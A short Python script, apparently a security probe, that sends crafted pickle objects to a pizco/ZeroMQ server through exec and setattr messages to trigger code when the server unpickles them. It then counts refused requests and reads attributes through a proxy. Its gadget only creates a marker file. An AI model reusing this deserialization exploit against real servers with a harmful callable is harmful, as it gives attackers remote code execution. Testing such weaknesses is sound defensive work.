"""Attacks a server with values that run a program where they are unpickled, then reads and listens as others would.

Its arguments are the server's endpoint, the file that the program would make, and the first part of a header.
"""

import json
import pickle
import sys
import uuid

import zmq
from pizco import Proxy

endpoint, mark, magic = sys.argv[1:]


class Program(object):
    def __reduce__(self):
        return open, (mark, 'w')


request = zmq.Context.instance().socket(zmq.REQ)
request.connect(endpoint)


def ask(content):
    body = pickle.dumps(content, 2)
    request.send_multipart([(magic + '+tcp://127.0.0.1:1+').encode(), b'pickle', body, uuid.uuid4().urn.encode(), b''])
    return request.recv_multipart()[2]


heard = []
proxy = Proxy(endpoint)
proxy.changed.connect(lambda *values: heard.append(values))
refused = 0
for name, method, args in (('changed', 'emit', (Program(),)), ('plain', '__setitem__', ('x', Program()))):
    answer = ask(('PSMessage', 'exec', {'name': name, 'method': method, 'args': args}))
    refused += b'raise' in answer
refused += b'raise' in ask(('PSMessage', 'setattr', {'name': 'any', 'value': Program()}))
read = 0
for name in ('any', 'prop'):
    getattr(proxy, name)
    read += 1
proxy._proxy_agent.stop()
print(json.dumps({'Refused': refused, 'Read': read}))
